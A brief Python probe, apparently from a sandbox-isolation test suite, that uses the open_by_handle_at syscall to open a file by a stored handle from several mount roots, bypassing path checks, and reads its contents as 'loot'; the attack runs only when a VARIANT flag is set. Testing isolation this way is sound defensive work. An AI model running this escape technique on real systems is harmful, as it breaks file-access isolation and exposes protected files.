"""Opens an outside file by its file handle (open_by_handle_at), past every path check."""

from __future__ import annotations

import os

import kit

VARIANT = 0


def attack(out: str) -> None:
    handle = bytes.fromhex(kit.TARGETS["private_handle"])

    def by_handle() -> None:
        for root in (".", "/", "/usr", "/etc", out):
            with kit.step(root):
                mount = os.open(root, os.O_RDONLY)
                fd = kit.syscall(304, 265, mount, handle, os.O_RDONLY)
                kit.loot(os.read(fd, 4096))

    kit.child(by_handle)


out_dir = kit.begin()
if VARIANT == 1:
    attack(out_dir)
kit.finish(out_dir, VARIANT)
